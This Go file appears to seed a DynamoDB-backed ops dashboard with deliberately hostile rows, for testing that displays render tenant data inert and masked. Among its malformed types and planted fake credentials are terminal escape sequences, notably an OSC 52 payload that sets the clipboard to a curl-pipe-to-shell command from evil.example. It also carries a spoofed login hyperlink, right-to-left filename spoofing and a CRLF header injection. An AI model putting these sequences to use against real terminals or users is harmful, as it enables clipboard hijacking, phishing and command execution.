// Over 400 lines on purpose: seed data (hostile rows), not logic.

package demo

import (
	"strings"
	"time"

	"github.com/aws/aws-sdk-go-v2/service/dynamodb/types"

	"opsdeck/data"
)

// Hostile rows: values a tenant controls can contain anything, and rows
// written by other tools can have the wrong shape. These live under clearly
// named tenants (HostileTenants) so they can be opened on purpose, except for
// one session in the busiest project and one event of the default Inbox user,
// which show up in the default views.
//
// What DynamoDB itself refuses, and so is not seeded (recorded in Notes):
//   - a wrong type or an empty string in any attribute that is a key of the
//     table or of a GSI ("Type mismatch for Index Key"), so e.g. expiresAt
//     (status-expiresAt-index) and allocated_at (three sandbox GSIs) are
//     always numbers; wrong types go on non-key attributes instead;
//   - invalid UTF-8 in an S value: the wire format is JSON and the SDK
//     replaces invalid bytes with U+FFFD before sending, so invalid UTF-8 is
//     seeded in B (binary) attributes, which can hold any bytes.

// Control sequences a renderer must never interpret.
const (
	escClear     = "\x1b[2J\x1b[H"                                      // clear screen, cursor home
	escAltScreen = "\x1b[?1049h"                                        // switch to the alternate screen
	escOSC52     = "\x1b]52;c;Y3VybCAtcyBldmlsLmV4YW1wbGUveCB8IHNo\x07" // set the clipboard to "curl -s evil.example/x | sh"
	escTitle     = "\x1b]0;root@prod-db: ~\x07"                         // set the window title
	escLink      = "\x1b]8;;https://evil.example/login\x07Open dashboard\x1b]8;;\x07"
	bidiOverride = "\u202e" // RIGHT-TO-LEFT OVERRIDE
	escRed       = "\x1b[31m"
	escReset     = "\x1b[0m"
)

// invalidUTF8 is bytes that are not UTF-8 (a lone continuation byte, 0xff,
// a truncated sequence) around an escape sequence.
var invalidUTF8 = []byte{'o', 'k', ' ', 0xff, 0xfe, 0x1b, '[', '2', 'J', 0xc3, 0x28, ' ', 0x80, 'e', 'n', 'd'}

var hostile = HostileTenants{
	Project:   "proj-hostile",
	GraphUser: "user-hostile",
	EventUser: "user-hostile",
	Audience:  "did:web:hostile.example",
	Customer:  "did:mailto:hostile.example:mallory",
	Consumer:  "did:key:z6Mk" + bidiOverride + escClear + "space",
	Track:     "track-hostile",
}

func seedHostile(g *gen, w *world) {
	w.report.Hostile = hostile
	w.note("DynamoDB rejects wrong types and empty strings in table and GSI key attributes, so malformed types are seeded only in non-key attributes")
	w.note("S values must be valid UTF-8 (the SDK replaces invalid bytes with U+FFFD), so invalid UTF-8 is seeded in B attributes")
	hostileSessions(g, w)
	hostileRuns(g, w)
	hostileEvents(g, w)
	hostileW3infra(g, w)
	hostileSandboxes(g, w)
	hostileClasses(g, w)
}

func hostileSessions(g *gen, w *world) {
	hp := wcProject{ID: hostile.Project, Timeout: time.Hour}
	w.add(data.TableProjects, "ACTIVE", Item{
		"projectId":      avS(hostile.Project),
		"name":           avS(escRed + "Evil" + escReset + " Corp " + bidiOverride + "txt.exe"),
		"concurrency":    avS("10"), // wrong type: N expected
		"status":         avS("ACTIVE"),
		"createdAt":      avS(iso(g.ago(40 * 24 * time.Hour))),
		"x-shadow-admin": avBool(true), // unknown attribute
		"defaultTimeout": avS("1h"),    // wrong type: N expected
		"ownerId":        avS("org_" + escTitle),
		"billingTier":    avS(""), // empty string (allowed: not a key)
		"updatedAt":      avS("yesterday"),
	})

	// In the default view: an ordinary-looking session of the busiest
	// project whose client-supplied metadata carries control sequences.
	s := planSession(g, wcProjects[0], "ACTIVE", nil)
	it := s.item()
	// A keep-alive session with a long timeout, so it stays in view for
	// hours even where TTL is enforced.
	it["keepAlive"] = avBool(true)
	it["expiresAt"] = avN(s.created.Add(20 * time.Hour).Unix())
	it["userMetadata"] = avM(Item{
		"team":     avS("pricing"),
		"retailer": avS("ikea.com" + bidiOverride + "moc.live"),
		"note":     avS(escClear + "invoice ready"),
		"job":      avS("sku-crawl-0042" + escOSC52),
	})
	w.add(data.TableSessions, "ACTIVE", it)

	// The hostile project's own sessions.
	add := func(state string, mutate func(Item)) {
		s := planSession(g, hp, state, nil)
		it := s.item()
		// Keep them around for most of a day even where TTL is enforced.
		it["expiresAt"] = avN(g.now.Add(20 * time.Hour).Unix())
		mutate(it)
		state = strAttr(it, "internalStatus")
		if state == "" {
			state = "(missing)"
		}
		w.add(data.TableSessions, state, it)
	}
	add("READY", func(it Item) {
		it["sessionId"] = avS("sess_hostile_escapes")
		it["connectUrl"] = avS("wss://203.0.113.66:9223/cdp?signingKey=" + escOSC52 + "eyJhbGciOiJIUzI1NiJ9.e30.sig")
		it["region"] = avS("us-east-1\r\nX-Injected: 1")
		it["userMetadata"] = avM(Item{
			"note":  avS(escClear + escAltScreen + "screen wiped"),
			"link":  avS(escLink),
			"title": avS(escTitle),
			"nul":   avS("before\x00after"),
			"bell":  avS(strings.Repeat("\a", 5)),
		})
	})
	add("STOPPED", func(it Item) {
		it["sessionId"] = avS("sess_" + bidiOverride + "gnp.exe")
	})
	add("STOPPED", func(it Item) {
		it["sessionId"] = avS("sess_" + escClear + "key")
	})
	add("STOPPED", func(it Item) {
		it["sessionId"] = avS("sess_hostile_types")
		it["proxyBytes"] = avS("lots")                         // N expected
		it["keepAlive"] = avS("true")                          // BOOL expected
		it["retryCount"] = avS("2")                            // N expected
		it["eventHistory"] = avM(Item{"0": avS("not a list")}) // L expected
		it["userMetadata"] = avS(`{"json":"as a string"}`)     // M expected
		it["startedAt"] = avBool(false)                        // S expected
		it["updatedAt"] = avN(g.now.Unix())                    // the container's numeric form
	})
	add("FAILED", func(it Item) {
		it["sessionId"] = avS("sess_hostile_missing")
		for _, a := range []string{"internalStatus", "signingKey", "region", "updatedAt", "eventHistory", "lastEventTimestamp"} {
			delete(it, a)
		}
	})
	add("ACTIVE", func(it Item) {
		it["sessionId"] = avS("sess_hostile_unknown")
		it["debugDump"] = avS(strings.Repeat("GET /json/version 200 OK; ", 320)) // ~8 KB
		it["x_internal"] = avM(Item{"shard": avN(7), "flags": avSL("canary", "no-ttl")})
		it["rawHeaders"] = avB(invalidUTF8)
		it["userMetadata"] = avM(nested(25))
	})
	add("STOPPED", func(it Item) {
		it["sessionId"] = avS("sess_hostile_status")
		it["status"] = avS("ZOMBIE")
		it["internalStatus"] = avS("UNDEAD")
	})
}

// nested builds a map depth levels deep.
func nested(depth int) Item {
	m := Item{"leaf": avS("bottom")}
	for i := depth - 1; i > 0; i-- {
		m = Item{"level": avN(int64(i)), "next": avM(m)}
	}
	return m
}

func hostileRuns(g *gen, w *world) {
	user := hostile.GraphUser
	created := g.ago(3 * time.Hour)
	it := graphRunItem(g, user, "h0st1e", "prod", "COMPLETE", created, created.Add(time.Minute))
	it["nodeCount"] = avS("42")               // N expected
	it["status"] = avS("COMPLETE" + escClear) // control sequence in a status
	it["graphS3Key"] = avS("graphs/prod/" + bidiOverride + "nosj.hparg")
	w.add(data.TableGraphRuns, "malformed", it)

	w.add(data.TableGraphRuns, "", Item{
		// No runId, no status, no GSI1 keys, a sort key that is not RUN#<ts>#<id>.
		"PK":          avS("USER#" + user),
		"SK":          avS("RUN#not-a-timestamp#zzz"),
		"environment": avS("staging"),
		"createdAt":   avS("2026-13-45T99:99:99Z"),
	})

	created = g.ago(50 * time.Minute)
	it = graphRunItem(g, user, "b1nary", "dev", "FAILED", created, created.Add(2*time.Minute))
	it["status"] = avS("EXPLODED") // unknown status
	it["iacSnippet"] = avB(invalidUTF8)
	it["updatedAt"] = avN(created.Unix()) // S expected
	it["graph"] = avL(avM(nested(12)), avS(escOSC52))
	w.add(data.TableGraphRuns, "EXPLODED", it)
}

func hostileEvents(g *gen, w *world) {
	// In the default Inbox view: a payload a tenant posted, full of control
	// sequences. Everything else about the event is normal.
	def := eventUsers[0]
	it := eventItem(g, def, "order.completed", "failed", g.ago(25*time.Minute), 1)
	it["payload"] = avM(Item{
		"order_id": avS("ord_" + escOSC52 + "553011"),
		"customer": avS(bidiOverride + "eciloA"),
		"note":     avS(escClear + "Thank you for your order!"),
	})
	w.add(data.TableEvents, "failed", it)

	u := eventUser{ID: hostile.EventUser, Source: "198.51.100.66"}
	add := func(state string, t time.Time, retries int, mutate func(Item)) {
		it := eventItem(g, u, "payment.failed", state, t, retries)
		mutate(it)
		w.add(data.TableEvents, state, it)
	}
	add("failed", g.ago(2*time.Hour), 3, func(it Item) {
		it["retry_count"] = avS("3") // N expected
	})
	add("failed", g.ago(90*time.Minute), 0, func(it Item) {
		it["ttl"] = avS("never") // N expected (TTL ignores it)
		it["payload"] = avS(`{"amount": 12.5}`)
	})
	add("failed", g.ago(80*time.Minute), 1, func(it Item) {
		// A writer that changed status but not the StatusIndex key.
		ts := strAttr(it, "timestamp")
		it["status#timestamp"] = avS("delivered#" + ts)
	})
	add("received", g.ago(70*time.Minute), 0, func(it Item) {
		delete(it, "status#timestamp")
		delete(it, "event_type")
		delete(it, "payload")
	})
	add("delivered", g.ago(60*time.Minute), 0, func(it Item) {
		ts := strAttr(it, "timestamp")
		it["event_type"] = avS("user.created" + escClear)
		it["event_type#timestamp"] = avS("user.created" + escClear + "#" + ts)
		it["payload"] = avM(Item{"name": avS(escTitle + "Mallory"), "blob": avB(invalidUTF8), "deep": avM(nested(30))})
		it["x-forwarded-for"] = avS("10.0.0.1, " + escOSC52) // unknown attribute
	})
}

func hostileW3infra(g *gen, w *world) {
	inserted := g.ago(10 * 24 * time.Hour)
	d := delegationItem(g, hostile.Audience, g.didKey(), inserted, g.now.Add(24*time.Hour))
	d["expiration"] = avS("never") // N expected
	w.add(data.TableDelegations, "malformed", d)

	d = delegationItem(g, hostile.Audience, g.didKey(), inserted, g.ago(time.Hour))
	d["link"] = avS("bafy" + escClear + "evil")
	delete(d, "issuer")
	d["proofs"] = avL(avS(g.cid()), avS(escOSC52)) // unknown attribute
	w.add(data.TableDelegations, "expired", d)

	d = delegationItem(g, hostile.Audience, "did:key:z6Mk"+bidiOverride+"evil", inserted, g.now.Add(48*time.Hour))
	delete(d, "expiration")
	w.add(data.TableDelegations, "no-expiration", d)

	at := jsISO(g.ago(5 * 24 * time.Hour))
	w.add(data.TableSubscriptions, "", Item{
		"subscription": avS(g.cid()),
		"provider":     avS(providerWeb3),
		"cause":        avN(42), // S expected
		"customer":     avS(hostile.Customer),
		"insertedAt":   avS(at),
		"updatedAt":    avB(invalidUTF8),
	})
	w.add(data.TableConsumers, "", Item{
		"subscription": avS(g.cid()),
		"provider":     avS(providerWeb3),
		"cause":        avS(g.cid()),
		"consumer":     avS(hostile.Consumer),
		"insertedAt":   avS(at),
	})
}

func hostileSandboxes(g *gen, w *world) {
	it := sandboxItem(g, 900, sbxAllocated, hostile.Track, 4, 30*time.Minute)
	it["lab_duration_hours"] = avS("4h") // N expected
	it["name"] = avS(escOSC52 + "lab-sbx-900")
	delete(it, "deletion_retry_count")
	it["owner_email"] = avS("mallory@hostile.example") // unknown attribute
	w.add(data.TableSandboxes, sbxAllocated, it)

	it = sandboxItem(g, 901, sbxAllocated, hostile.Track, 2, time.Hour)
	it["status"] = avS("quarantined") // unknown status
	it["eng_payload"] = avB(invalidUTF8)
	it["external_id"] = avS("ext-" + bidiOverride + "999")
	w.add(data.TableSandboxes, "quarantined", it)
}

// hostileSecret is a credential planted in a hostile row: long, opaque and
// named by the shape it is stored in, so a test that finds it on screen
// knows which case leaked. Every one is listed in SeedReport.HostileSecrets.
func hostileSecret(w *world, kind string) string {
	s := "hs_" + kind + "_Q7xV9kP2mW4rT8bN3cY6hJ1d"
	w.report.HostileSecrets = append(w.report.HostileSecrets, s)
	return s
}

// Offsets of zones that timestamps are written in.
var (
	zoneEAT = time.FixedZone("EAT", 3*3600)
	zoneBRT = time.FixedZone("BRT", -3*3600)
	zoneEST = time.FixedZone("EST", -5*3600)
)

// hostileClasses adds, under the hostile tenants, one row per class of
// value that must be shown inert, masked and true: credentials stored in
// every attribute type and at any depth, tokens inside URLs of any shape,
// ids with invisible characters, numbers beyond int64, timestamps in
// milliseconds or with an offset, and an item close to DynamoDB's 400 KB.
func hostileClasses(g *gen, w *world) {
	hp := wcProject{ID: hostile.Project, Timeout: time.Hour}
	add := func(id string, mutate func(Item)) {
		s := planSession(g, hp, "READY", nil)
		it := s.item()
		it["sessionId"] = avS(id)
		it["expiresAt"] = avN(g.now.Add(20 * time.Hour).Unix())
		mutate(it)
		w.add(data.TableSessions, strAttr(it, "internalStatus"), it)
	}
	// A signing key in every type but a string, a connectUrl as a map,
	// tokens in opaque URLs, fragments, headers and a huge value.
	add("sess_hostile_key_list", func(it Item) {
		it["signingKey"] = avL(avS(hostileSecret(w, "list")))
	})
	add("sess_hostile_key_map", func(it Item) {
		it["signingKey"] = avM(Item{"kid": avS("k-2026-11"), "value": avS(hostileSecret(w, "map"))})
		it["connectUrl"] = avM(Item{
			"url":  avS("wss://203.0.113.66:9223/cdp?signingKey=" + hostileSecret(w, "urlmap")),
			"host": avS("203.0.113.66"),
		})
	})
	add("sess_hostile_key_set", func(it Item) {
		it["signingKey"] = &types.AttributeValueMemberSS{Value: []string{hostileSecret(w, "set")}}
		it["userMetadata"] = avM(Item{
			"note":     avS("if the page hangs, attach with wss:203.0.113.66:9223/cdp?token=" + hostileSecret(w, "opaque") + " and reload"),
			"callback": avS("https://hooks.hostile.example/cb#access_token=" + hostileSecret(w, "fragment") + "&state=1"),
			"headers":  avS("Authorization: Bearer " + hostileSecret(w, "bearer")),
		})
	})
	add("sess_hostile_key_bin", func(it Item) {
		it["signingKey"] = avB([]byte(hostileSecret(w, "binary")))
		it["userMetadata"] = avM(Item{
			"apiKey":     &types.AttributeValueMemberNS{Value: []string{"31415926535897932384626"}},
			"privateKey": &types.AttributeValueMemberBS{Value: [][]byte{[]byte(hostileSecret(w, "binset"))}},
			"token":      avNum("27182818284590452353602"),
		})
	})
	w.report.HostileSecrets = append(w.report.HostileSecrets, "31415926535897932384626", "27182818284590452353602")

	// Ids that look like others: zero-width, isolate, line separator,
	// soft hyphen and a C1 control (CSI) in one id.
	add("sess_\u200bhostile\u2066inv\u2028is\u00adible\u009b", func(Item) {})

	// Numbers DynamoDB stores and int64 cannot hold.
	add("sess_hostile_numbers", func(it Item) {
		it["proxyBytes"] = avNum("123456789012345678901234567890")
		it["retryCount"] = avNum("9223372036854775808") // int64 max + 1
		it["userMetadata"] = avM(Item{"quotaBytes": avNum("-99999999999999999999"), "ratio": avNum("0.000000000000000000000000000001")})
	})
	// Timestamps in milliseconds, and with offsets (the same instants the
	// services mean, written in other zones).
	add("sess_hostile_millis", func(it Item) {
		it["expiresAt"] = avN(g.now.Add(20 * time.Hour).UnixMilli())
		it["updatedAt"] = avN(g.now.Add(-2 * time.Minute).UnixMilli())
	})
	add("sess_hostile_offsets", func(it Item) {
		it["createdAt"] = avS(g.now.Add(-90 * time.Minute).In(zoneEAT).Format(time.RFC3339))
		it["updatedAt"] = avS(g.now.Add(-1 * time.Minute).In(zoneEST).Format("2006-01-02T15:04:05.000-0700"))
		it["startedAt"] = avS(g.now.Add(-89 * time.Minute).In(zoneBRT).Format(time.RFC3339Nano))
	})
	// Close to the 400 KB item limit, with a token at the very end.
	add("sess_hostile_huge", func(it Item) {
		var b strings.Builder
		for b.Len() < 300_000 {
			b.WriteString("GET /json/version 200 OK; " + escRed + "cdp " + escReset + bidiOverride + "\n")
		}
		b.WriteString("last: wss://203.0.113.66:9223/cdp?signingKey=" + hostileSecret(w, "huge"))
		it["debugDump"] = avS(b.String())
		it["rawFrames"] = avB(append(bytesOf(invalidUTF8, 3000), []byte(escOSC52)...))
	})

	// Runs: a run stuck in PROCESSING whose updatedAt is written with an
	// offset (and one whose offset puts it in the future), numbers beyond
	// int64, a webhook URL with a password.
	user := hostile.GraphUser
	created := g.ago(2 * time.Hour)
	it := graphRunItem(g, user, "0ffset", "prod", "PROCESSING", created, created)
	it["updatedAt"] = avS(g.now.Add(-45 * time.Minute).In(zoneEAT).Format(time.RFC3339))
	it["nodeCount"] = avNum("99999999999999999999")
	it["webhookUrl"] = avS("https://opsdeck:" + hostileSecret(w, "runpassword") + "@hooks.hostile.example/runs")
	w.add(data.TableGraphRuns, "PROCESSING", it)
	created = g.ago(30 * time.Minute)
	it = graphRunItem(g, user, "futur3", "prod", "PROCESSING", created, created)
	it["updatedAt"] = avS(g.now.Add(2*time.Hour + 59*time.Minute).In(zoneBRT).Format(time.RFC3339))
	w.add(data.TableGraphRuns, "PROCESSING", it)

	// Events: a retry count beyond int64, a ttl in milliseconds, a payload
	// carrying credentials as a map and as binary.
	u := eventUser{ID: hostile.EventUser, Source: "198.51.100.66"}
	ev := eventItem(g, u, "payment.failed", "failed", g.ago(40*time.Minute), 1)
	ev["retry_count"] = avNum("18446744073709551616")
	ev["ttl"] = avN(g.now.Add(30 * 24 * time.Hour).UnixMilli())
	ev["payload"] = avM(Item{
		"card":        avM(Item{"token": avS(hostileSecret(w, "cardtoken")), "last4": avS("4242")}),
		"webhook":     avS("https://hooks.hostile.example/in?sig=" + hostileSecret(w, "sig") + "&id=42"),
		"credentials": avB([]byte(hostileSecret(w, "credbytes"))),
	})
	w.add(data.TableEvents, "failed", ev)

	// Delegations: an expiration beyond int64, an insertedAt with offset.
	d := delegationItem(g, hostile.Audience, g.didKey(), g.ago(3*24*time.Hour), g.now.Add(24*time.Hour))
	d["expiration"] = avNum("99999999999999999999999999")
	d["insertedAt"] = avS(g.ago(3 * 24 * time.Hour).In(zoneEAT).Format("2006-01-02T15:04:05.000Z07:00"))
	w.add(data.TableDelegations, "malformed", d)

	// Sandboxes: an allocation in milliseconds, counters beyond int64, an
	// id with a zero-width space.
	sb := sandboxItem(g, 902, sbxAllocated, hostile.Track, 4, 30*time.Minute)
	sb["allocated_at"] = avN(g.ago(30 * time.Minute).UnixMilli())
	sb["deletion_retry_count"] = avNum("9223372036854775808")
	w.add(data.TableSandboxes, sbxAllocated, sb)
	sb = sandboxItem(g, 903, sbxAllocated, hostile.Track, 2, time.Hour)
	id := "sbx_\u200b" + strAttr(sb, "sandbox_id")
	sb["PK"], sb["sandbox_id"] = avS("SBX#"+id), avS(id)
	sb["lab_duration_hours"] = avNum("99999999999999999999")
	w.add(data.TableSandboxes, sbxAllocated, sb)

	hostileTokensInColumns(g, w)
}

// hostileTokensInColumns puts credentials where a list shows them: in ids,
// names, reasons and causes (a client that stored a connect URL as the
// session id, a webhook URL with its password in a failure reason, a
// console login link as a sandbox name). Lists mask them like the detail
// view does.
func hostileTokensInColumns(g *gen, w *world) {
	hp := wcProject{ID: hostile.Project, Timeout: time.Hour}
	s := planSession(g, hp, "READY", nil)
	it := s.item()
	it["sessionId"] = avS("wss://203.0.113.66:9223/cdp?token=" + hostileSecret(w, "sessionid"))
	it["expiresAt"] = avN(g.now.Add(20 * time.Hour).Unix())
	w.add(data.TableSessions, strAttr(it, "internalStatus"), it)

	created := g.ago(70 * time.Minute)
	it = graphRunItem(g, hostile.GraphUser, "w3bhook", "prod", "FAILED", created, created.Add(3*time.Minute))
	it["failureReason"] = avS("webhook https://opsdeck:" + hostileSecret(w, "reasonpass") + "@hooks.hostile.example/runs answered 500")
	w.add(data.TableGraphRuns, "FAILED", it)

	sb := sandboxItem(g, 904, sbxAllocated, hostile.Track, 4, 20*time.Minute)
	sb["name"] = avS("lab https://console.hostile.example/login?token=" + hostileSecret(w, "sbxname"))
	sb["external_id"] = avS("Bearer " + hostileSecret(w, "extid"))
	w.add(data.TableSandboxes, sbxAllocated, sb)

	d := delegationItem(g, hostile.Audience, g.didKey(), g.ago(2*24*time.Hour), g.now.Add(24*time.Hour))
	d["cause"] = avS("https://up.hostile.example/ucan?sig=" + hostileSecret(w, "cause"))
	w.add(data.TableDelegations, "malformed", d)

	w.add(data.TableConsumers, "", Item{
		"subscription": avS(g.cid()),
		"provider":     avS(providerWeb3),
		"cause":        avS("https://up.hostile.example/c?access_token=" + hostileSecret(w, "consumercause")),
		"consumer":     avS(hostile.Consumer),
		"insertedAt":   avS(jsISO(g.ago(4 * 24 * time.Hour))),
	})
}

// bytesOf repeats b n times.
func bytesOf(b []byte, n int) []byte {
	out := make([]byte, 0, len(b)*n)
	for i := 0; i < n; i++ {
		out = append(out, b...)
	}
	return out
}

func init() { registerSeed(1000, seedHostile) }
